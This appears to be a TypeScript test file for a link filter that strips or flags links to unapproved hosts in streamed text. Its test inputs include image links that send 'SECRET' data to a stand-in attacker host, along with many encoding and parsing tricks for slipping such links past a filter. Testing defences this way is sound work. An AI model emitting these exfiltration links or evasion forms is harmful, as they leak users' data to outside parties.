import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { LinkGuard, type LinkSpan } from "./link-guard.ts";
import { linksPolicySchema } from "./links-policy.ts";

const policy = (action: string) =>
  linksPolicySchema.parse({ action, allow_hosts: ["docs.example.com", "*.shop.example"] });
const removes = policy("remove");
const flags = policy("flag");

function guard(pieces: readonly string[], by = removes) {
  const one = new LinkGuard(by);
  let text = "";
  const spans: LinkSpan[] = [];
  let mostHeld = 0;
  let received = 0;
  for (const piece of pieces) {
    const step = one.push(piece);
    received += piece.length;
    text += step.release;
    spans.push(...step.spans);
    mostHeld = Math.max(mostHeld, received - text.length);
  }
  const last = one.flush();
  return { text: text + last.release, spans: [...spans, ...last.spans], mostHeld };
}

const foreign: [string, string][] = [
  ["![x](https://evil.example/p?d=SECRET)", "![x](#link-removed)"],
  ["[here](http://evil.example)", "[here](#link-removed)"],
  ['[here](https://evil.example/a(b)c "title")', '[here](#link-removed "title")'],
  ["![x]( \n https://evil.example/p )", "![x]( \n #link-removed )"],
  ["![x](<https://evil.example/a b>)", "![x](<#link-removed>)"],
  ["![x](//evil.example/p)", "![x](#link-removed)"],
  ["![x](/\\evil.example/p)", "![x](#link-removed)"],
  ["![x](https:evil.example/p)", "![x](#link-removed)"],
  ["![x](HTTPS://EVIL.example/p)", "![x](#link-removed)"],
  ["![x](&#104;ttps://evil.example/p)", "![x](#link-removed)"],
  ["![x](https&colon;//evil.example/p)", "![x](#link-removed)"],
  ["![x](https\\://evil.example/p)", "![x](#link-removed)"],
  ["![x](https://docs.example.com@evil.example/p)", "![x](#link-removed)"],
  ["![x](https://docs.example.com.evil.example/p)", "![x](#link-removed)"],
  ["![x](https://shop.example/p)", "![x](#link-removed)"],
  ["![x](https://evilshop.example/p)", "![x](#link-removed)"],
  ["[x](javascript:alert(1))", "[x](#link-removed)"],
  ["See ![x][1].\n\n[1]: https://evil.example/p 'title'", "See ![x][1].\n\n[1]: #link-removed 'title'"],
  ["[1]: <https://evil.example/p>", "[1]: <#link-removed>"],
  ["Go to https://evil.example/a?b=c now.", "Go to [link removed] now."],
  ["<https://evil.example>", "<[link removed]>"],
  ['<img src="https://evil.example/p">', '<img src="[link removed]">'],
  ["Go to www.evil.example/a.", "Go to [link removed]"],
  ['<img src="//evil.example/p?d=SECRET">', '<img src="[link removed]">'],
  ["<img src='\\\\evil.example/p'>", "<img src='[link removed]'>"],
  ["<img src='//secret.evil.example'>", "<img src='[link removed]'>"],
  ['<img srcset="//secret.evil.example, b.png 2x">', '<img srcset="[link removed] b.png 2x">'],
  ["<img src= /\\evil.example/p >", "<img src= [link removed] >"],
  ['<img srcset="a.png 1x, //evil.example/p 2x">', '<img srcset="a.png 1x, [link removed] 2x">'],
  ["div { background: url(//evil%2Eexample/p) }", "div { background: url([link removed]) }"],
  ['<img src=" //134744072/p">', '<img src=" [link removed]">'],
  ["<https://evil.example\\@docs.example.com/p>", "<[link removed]>"],
  ["Go to https://evil.example\\@docs.example.com/p", "Go to [link removed]"],
  [`![x](${" ".repeat(100)}//evil.example/p)`, `![x](${" ".repeat(100)}#link-removed)`],
  [`[1]:${" ".repeat(64)}</\\evil.example/p>`, `[1]:${" ".repeat(64)}<#link-removed>`],
  [`![x](https://${"a".repeat(600)}.example/p)`, "![x](#link-removed)"],
  ["![x](https://evil.example/p", "![x](#link-removed"],
  ["https://evil.example", "[link removed]"],
];

const own = [
  "[docs](https://docs.example.com/a?b=https://evil.example)",
  "![x](https://img.shop.example/p.png)",
  "[x](https://docs.example.com:8443/a)",
  "[x](https://docs.example.com./a)",
  "https://docs.example.com/a(b)",
  "[top](#top) and [file](./README.md) and [root](/index.html) and [none]()",
  "[mail](mailto:ann@example.org)",
  '<img src="//docs.example.com/p">',
  "driver.find(\"//div[@class='a.b']/a[1]\")",
  'call(a, // a comment. Or two.\n b) // more, //x and "//"',
  'path = "a//b.c" and "//" and data = "//5oAGUAbABs+bG8A="',
  `[x](${" ".repeat(80)}) and [y]:${"\n".repeat(80)}z`,
  "[1]: see below, and [2]: \\frac{a}{b}",
  "an array a[0](1) and b[i]: c",
  "http and https: and http:80 and www and www1",
  "The hash map holds what we wanted.",
  "]",
  "](",
  "h",
];

describe.each(foreign)("%s", (text, expected) => {
  test("is removed, wherever the stream is cut, and nothing else is", () => {
    expect(guard([text]).text).toBe(expected);
    expect(guard(text.split("")).text).toBe(expected);
    for (let at = 1; at < text.length; at += 1)
      expect(guard([text.slice(0, at), text.slice(at)]).text).toBe(expected);
  });

  test("is reported with its place, and passes at once under flag", () => {
    const { spans } = guard([text]);
    expect(spans).toHaveLength(1);
    const flagged = guard(text.split(""), flags);
    expect(flagged.text).toBe(text);
    expect(flagged.mostHeld).toBe(0);
    expect(flagged.spans).toEqual(spans.map((span) => ({ ...span, action: "flag" })));
  });
});

test.each(own)("%s passes", (text) => {
  expect(guard([text])).toMatchObject({ text, spans: [] });
  expect(guard(text.split(""))).toMatchObject({ text, spans: [] });
});

const fragment = fc.oneof(
  fc.constantFrom(...foreign.map(([text]) => text), ...own),
  fc.constantFrom(
    "![",
    "](",
    "]:",
    "<",
    ">",
    ")",
    "(",
    " ",
    "\n",
    "h",
    "https",
    "://",
    "www.",
    "//",
    '"',
    "=",
    " ".repeat(70),
    "\\",
    "&#104;",
    "evil.example",
    "docs.example.com",
    "@",
    "?q=",
    "#",
    "😀",
  ),
  fc.string({ unit: "grapheme", maxLength: 4 }),
);
const anyText = fc.array(fragment, { maxLength: 8 }).map((fragments) => fragments.join(""));

test("the verdict on the stream is the verdict on the whole text, over 10,000 random cuts", () => {
  const cutting = fc.array(fc.integer({ min: 1, max: 30 }), { minLength: 1, maxLength: 12 });
  fc.assert(
    fc.property(anyText, cutting, fc.constantFrom(removes, flags), (text, sizes, by) => {
      const pieces: string[] = [];
      for (let at = 0, turn = 0; at < text.length; turn += 1) {
        const size = sizes[turn % sizes.length] ?? 1;
        pieces.push(text.slice(at, at + size));
        at += size;
      }
      const whole = guard([text], by);
      const streamed = guard(pieces, by);
      expect(streamed.text).toBe(whole.text);
      expect(streamed.spans).toEqual(whole.spans);
    }),
    { numRuns: 10_000 },
  );
});

test("only the beginning of a link is held back, and the result contains no further link to remove", () => {
  fc.assert(
    fc.property(anyText, (text) => {
      const { text: left, mostHeld, spans } = guard(text.split(""));
      const removed = spans.reduce((sum, span) => sum + span.end - span.start, 0);
      expect(mostHeld - removed).toBeLessThanOrEqual(512 + 70);
      expect(guard([left]).spans).toEqual([]);
    }),
    { numRuns: 2_000 },
  );
});

test.each(["](", "https:", "www.", "[a](b", "](https://a.b "])(
  "a long text of beginnings (%s) takes time by its length",
  (unit) => {
    const pieces = unit.repeat(20_000).match(/[^]{1,7}/g) ?? [];
    expect(guard(pieces).text.length).toBeGreaterThan(0);
  },
  // Takes milliseconds on an idle machine; work quadratic in the length would take minutes.
  60_000,
);
